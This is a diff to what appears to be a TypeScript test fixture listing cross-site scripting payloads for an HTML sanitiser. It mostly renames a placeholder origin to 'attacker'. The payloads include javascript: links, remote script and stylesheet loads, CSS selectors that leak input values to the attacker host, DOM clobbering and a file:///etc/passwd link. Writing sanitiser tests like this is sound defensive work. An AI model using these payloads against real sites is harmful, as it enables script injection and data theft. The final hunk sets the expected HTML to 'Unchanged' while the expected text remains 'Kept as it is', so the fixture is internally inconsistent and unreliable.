@@ -1,8 +1,8 @@
 import { embedPayloads, foreignPayloads, mutationPayloads } from "./xss-markup.ts"
-import { calledName, strangerOrigin } from "./xss-names.ts"
+import { attackerOrigin, calledName } from "./xss-names.ts"
 
 const call = `${calledName}(1)`
-const stranger = strangerOrigin
+const attacker = attackerOrigin
 
 const events = [
   ...["abort", "animationend", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur"],
@@ -62,7 +62,7 @@ export const disguisedLinks = [
   `java\u00adscript:${call}`,
   `\uff4aavascript:${call}`,
   `javascript\uff1a${call}`,
-  `javascript://${stranger}/%0a${call}`,
+  `javascript://${attacker}/%0a${call}`,
   `javascript:/*https://*/${call}`,
   `javascript:\`\${${call}}\``,
   `javascript:%70wned(1)`,
@@ -82,8 +82,8 @@ export const disguisedLinks = [
   `VbScript:msgbox(1)`,
   `livescript:${call}`,
   `mocha:${call}`,
-  `blob:${stranger}/1`,
-  `filesystem:${stranger}/temporary/1`,
+  `blob:${attacker}/1`,
+  `filesystem:${attacker}/temporary/1`,
   `file:///etc/passwd`,
   `about:blank#${call}`,
   `//stranger.example/a`,
@@ -112,7 +112,7 @@ const links = [
   `<a href="https://ok.example" href="javascript:${call}">e</a>`,
   `<a HREF="javascript:${call}" href="/ok">e</a>`,
   `<a xlink:href="javascript:${call}">e</a>`,
-  `<a href="/ok" ping="${stranger}/ping">e</a>`,
+  `<a href="/ok" ping="${attacker}/ping">e</a>`,
   `<a href="/ok" target="_parent" onclick=${call}>e</a>`,
   `<a href="/ok" download="x" referrerpolicy="unsafe-url">e</a>`,
   `<area href="javascript:${call}" shape=default>`,
@@ -121,7 +121,7 @@ const links = [
 
 const scripts = [
   `<script>${call}</script>`,
-  `<SCRIPT SRC=${stranger}/a.js></SCRIPT>`,
+  `<SCRIPT SRC=${attacker}/a.js></SCRIPT>`,
   `<script/x>${call}</script>`,
   `<script\n>${call}</script\n>`,
   `<scr<script>ipt>${call}</scr</script>ipt>`,
@@ -144,36 +144,36 @@ const scripts = [
   `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
   `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
   `<link rel=import href="data:text/html,<script>${call}</script>">`,
-  `<link rel=stylesheet href="${stranger}/a.css">`,
-  `<link rel=prefetch href="${stranger}/a">`,
-  `<link rel="modulepreload" href="${stranger}/a.js">`,
+  `<link rel=stylesheet href="${attacker}/a.css">`,
+  `<link rel=prefetch href="${attacker}/a">`,
+  `<link rel="modulepreload" href="${attacker}/a.js">`,
 ]
 
 const styles = [
   `<style>*{display:none}</style>`,
-  `<style>@import url(${stranger}/a.css);</style>`,
-  `<style>@font-face{font-family:x;src:url(${stranger}/f)}*{font-family:x}</style>`,
-  `<style>input[value^=a]{background:url(${stranger}/a)}</style>`,
-  `<p style="background:url(${stranger}/s.png)">x</p>`,
+  `<style>@import url(${attacker}/a.css);</style>`,
+  `<style>@font-face{font-family:x;src:url(${attacker}/f)}*{font-family:x}</style>`,
+  `<style>input[value^=a]{background:url(${attacker}/a)}</style>`,
+  `<p style="background:url(${attacker}/s.png)">x</p>`,
   `<p style="background-image:url('javascript:${call}')">x</p>`,
   `<p style="width:expression(${call})">x</p>`,
   `<p style="xss:expr/**/ession(${call})">x</p>`,
-  `<p style="-moz-binding:url(${stranger}/x.xml#a)">x</p>`,
-  `<p style="behavior:url(${stranger}/x.htc)">x</p>`,
+  `<p style="-moz-binding:url(${attacker}/x.xml#a)">x</p>`,
+  `<p style="behavior:url(${attacker}/x.htc)">x</p>`,
   `<p style="position:fixed;inset:0;z-index:99999;background:red">over</p>`,
   `<p style="text-align:center;position:fixed">x</p>`,
-  `<p style="text-align:center;background:url(${stranger}/t.png)">x</p>`,
+  `<p style="text-align:center;background:url(${attacker}/t.png)">x</p>`,
   `<p style="text-align:cent\\65r;x:1">x</p>`,
   `<p style="text-align:center/*;*/;color:expression(${call})">x</p>`,
-  `<p style="text-align:url(${stranger}/u.png)">x</p>`,
+  `<p style="text-align:url(${attacker}/u.png)">x</p>`,
   `<p style="text-align:center}*{display:none">x</p>`,
-  `<p style="--a:url(${stranger}/v.png);background:var(--a)">x</p>`,
+  `<p style="--a:url(${attacker}/v.png);background:var(--a)">x</p>`,
   `<p style='text-align:left"onmouseover=${call} x="'>x</p>`,
   `<p align="center onmouseover=${call}">x</p>`,
   `<p class="fixed inset-0 z-50 bg-danger">over</p>`,
-  `<p style="@import '${stranger}/i.css'">x</p>`,
+  `<p style="@import '${attacker}/i.css'">x</p>`,
   `<div style="content:'</style><script>${call}</script>'">x</div>`,
-  `red;background:url(${stranger}/w.png)`,
+  `red;background:url(${attacker}/w.png)`,
   `}</style><script>${call}</script>`,
 ]
 
@@ -183,10 +183,10 @@ const clobbers = [
   `<a id=webpackChunk_N_E></a>`,
   `<img name=cookie src=/x.png>`,
   `<img name=getElementById src=/x.png>`,
-  `<img name=currentScript src="${stranger}/x.js">`,
+  `<img name=currentScript src="${attacker}/x.js">`,
   `<form name=body></form>`,
   `<form id=forms><input name=attributes><input id=children></form>`,
-  `<a id=config href="javascript:${call}"></a><a id=config name=url href="${stranger}"></a>`,
+  `<a id=config href="javascript:${call}"></a><a id=config name=url href="${attacker}"></a>`,
   `<a id=location></a>`,
   `<a id=document></a>`,
   `<a id=content href="/x">skip</a>`,
@@ -223,7 +223,7 @@ export const xssPayloads: readonly string[] = [
 
 /** Formatting that the sanitiser has to preserve: its HTML, and its selector and text in a page. */
 export const wantedHtml = {
-  html: '<p style="text-align:center"><strong>Kept as it is</strong></p><ol start="3"><li>third</li></ol>',
+  html: '<p style="text-align:center"><strong>Unchanged</strong></p><ol start="3"><li>third</li></ol>',
   selector: "p[style='text-align:center'] > strong",
   text: "Kept as it is",
 }
